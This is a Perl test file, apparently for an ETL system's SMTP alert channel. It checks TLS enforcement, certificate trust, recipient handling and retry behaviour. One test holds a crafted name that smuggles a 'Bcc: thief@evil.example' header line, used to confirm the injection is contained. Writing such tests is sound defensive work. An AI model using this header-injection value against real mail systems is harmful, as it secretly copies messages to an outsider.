# Mail goes out over TLS or not at all, to those who were named, and nothing in it becomes a header.
use strict;
use warnings;

use FindBin;
use lib "$FindBin::Bin/../perl";

use Etl::Cluster;
use JSON::PP;
use PostgreSQL::Test::Utils;
use Test::More;
use Time::HiRes qw(usleep);

my $dir = PostgreSQL::Test::Utils::tempdir();
my @servers;

# openssl runs the program quietly.
sub openssl
{
	system("openssl @_ >/dev/null 2>&1") == 0 or die "openssl @_";
	return;
}

# mail_server starts a server and returns its port.
sub mail_server
{
	my ($name, @arguments) = @_;
	my $pid = fork();

	if ($pid == 0)
	{
		open(STDERR, '>', "$dir/$name.log");
		exec('/usr/bin/python3', "$FindBin::Bin/../servers/smtp_server.py", '--port-file', "$dir/$name.port",
			'--mails', "$dir/$name.mails", @arguments) or die "python3: $!";
	}
	push @servers, $pid;
	for (1 .. 300)
	{
		last if -s "$dir/$name.port";
		usleep(50_000);
	}
	return slurp_file("$dir/$name.port");
}

# mails returns what a server got.
sub mails
{
	my ($name) = @_;

	return -e "$dir/$name.mails" ? map { decode_json($_) } split(/\n/, slurp_file("$dir/$name.mails")) : ();
}

openssl("req -x509 -newkey rsa:2048 -nodes -days 2 -keyout $dir/ca.key -out $dir/ca.crt -subj /CN=authority");
openssl("req -newkey rsa:2048 -nodes -keyout $dir/server.key -out $dir/server.csr -subj /CN=localhost");
append_to_file("$dir/ext", "subjectAltName=IP:127.0.0.1,DNS:localhost\n");
openssl("x509 -req -in $dir/server.csr -CA $dir/ca.crt -CAkey $dir/ca.key -CAcreateserial -days 2"
	  . " -extfile $dir/ext -out $dir/server.crt");
openssl("req -x509 -newkey rsa:2048 -nodes -days 2 -keyout $dir/other.key -out $dir/other.crt -subj /CN=elsewhere");

my $port = mail_server('good', '--cert', "$dir/server.crt", '--key', "$dir/server.key");
my $untrusted = mail_server('untrusted', '--cert', "$dir/other.crt", '--key', "$dir/other.key");
my $clear = mail_server('clear', '--no-tls');
my $cluster = Etl::Cluster->new('alert_mail', conf => "etl.tls_ca_file = '$dir/ca.crt'\n");

# mail defines a mail channel.
sub mail
{
	my ($name, $at, %options) = @_;
	my $json = encode_json({ url => "smtp://127.0.0.1:$at", from => 'etl@shop.example', to => ['ops@shop.example'],
		retry => { base => '200 ms', cap => '500 ms' }, %options });

	$cluster->sql("SELECT etl.define_channel('$name', 'smtp', '$json')");
	return;
}

# test_channel returns what etl.test_channel says.
sub test_channel
{
	return $cluster->sql("SELECT ok || ' ' || detail || coalesce(' ' || remedy, '') FROM etl.test_channel('$_[0]')");
}

my %login = (user => 'etl', password => 'right');

# ---- a real alert ----

$cluster->sql(q(CREATE SCHEMA m; CREATE TABLE m.input AS SELECT 0 AS n;
	SELECT etl.define_model('m."weird "" näme"', 'SELECT 1 / n AS x FROM m.input', materialized => 'table')));
mail('ops', $port, %login, to => [ 'ops@shop.example', 'boss@shop.example' ], subject_prefix => '[Shop]');
$cluster->sql(q(SELECT etl.define_alert('ops', '{run_failed}', '{ops}', severity => 'critical')));
is($cluster->run('*'), 'failed', 'a run fails');
ok(defined $cluster->poll("SELECT status FROM etl.deliveries", 'delivered', 60), 'the mail is delivered')
  or diag($cluster->sql('SELECT * FROM etl.deliveries'));
my ($mail) = mails('good');
ok($mail->{tls}, 'over TLS');
is_deeply($mail->{to}, [ 'ops@shop.example', 'boss@shop.example' ], 'to everybody named');
like($mail->{headers}{Subject}, qr/^\[Shop\] CRITICAL: m\."weird "" n\x{e4}me" failed in run \d+$/, 'the subject says it');
like($mail->{text}, qr/remedy: +\S/, 'the text has the remedy');
like($mail->{text}, qr/error: +division by zero/, 'and the error');
like($mail->{headers}{'Message-ID'}, qr/^<[0-9a-f-]{36}\@etl>$/, 'it has a name of its own');

# ---- what must not happen ----

mail('wrong', $port, user => 'etl', password => 'wrong');
like(test_channel('wrong'), qr/^false .*does not accept user and password/, 'a wrong password is told');
mail('untrusted', $untrusted, %login);
like(test_channel('untrusted'), qr/^false .*cannot be trusted.*tls_ca_file/, 'a certificate that nobody vouches for is refused');
mail('clear', $clear);
like(test_channel('clear'), qr/^false .*STARTTLS/, 'a server without STARTTLS gets nothing');
is(scalar(mails('untrusted')) + scalar(mails('clear')), 0, 'neither got a mail');
mail('here', $clear, tls => 'none');
like(test_channel('here'), qr/^true/, 'unless it is on this machine and clear text is asked for');
mail('refused', $port, %login, to => ['x@refused.example']);
like(test_channel('refused'), qr/^false .*550.*"to"/, 'a recipient who is refused is told');
mail('down', 1, %login);
like(test_channel('down'), qr/^false .*cannot be reached/, 'a server that is not there is told');

# ---- refused for good, and for now ----

$cluster->sql("SELECT etl.define_alert('ops', '{run_failed}', '{refused}', options => '{\"cooldown\": \"1 s\"}')");
usleep(1_100_000);
$cluster->run('*');
ok(defined $cluster->poll("SELECT status || ' ' || attempts FROM etl.deliveries WHERE channel = 'refused'", 'dead 1', 60),
	'a mail that is refused for good is given up');
mail('busy', $port, %login, to => ['x@busy.example']);
$cluster->sql("SELECT etl.define_alert('ops', '{run_failed}', '{busy}', options => '{\"cooldown\": \"1 s\"}')");
usleep(1_100_000);
$cluster->run('*');
ok(defined $cluster->poll("SELECT attempts > 2 AND status = 'waiting' FROM etl.deliveries WHERE channel = 'busy'", 't', 60),
	'one that is refused for now is tried again');

# ---- injection ----

my $before = mails('good');
mail('x', $port, %login);
$cluster->sql(q(SELECT etl.define_model(E'm."a\nBcc: thief@evil.example\n\nhello"', 'SELECT 1 / n AS x FROM m.input', materialized => 'table');
	SELECT etl.define_alert('ops', '{run_failed}', '{x}', options => '{"cooldown": "1 s"}')));
usleep(1_100_000);
$cluster->run('*');
ok(defined $cluster->poll("SELECT bool_and(status = 'delivered') AND count(*) >= 2 FROM etl.deliveries WHERE channel = 'x'", 't', 60),
	'a node with line ends in its name fails');
my @injected = grep { $_->{headers}{Subject} =~ /thief/ } mails('good');
is(scalar(@injected), 1, 'it is told');
ok(!exists $injected[0]{headers}{Bcc}, 'and its name stays within the subject');
is_deeply($injected[0]{to}, ['ops@shop.example'], 'nobody else gets it');

END
{
	my $status = $?;
	kill 'KILL', @servers if @servers;
	waitpid($_, 0) for @servers;
	$? = $status;
}

done_testing();
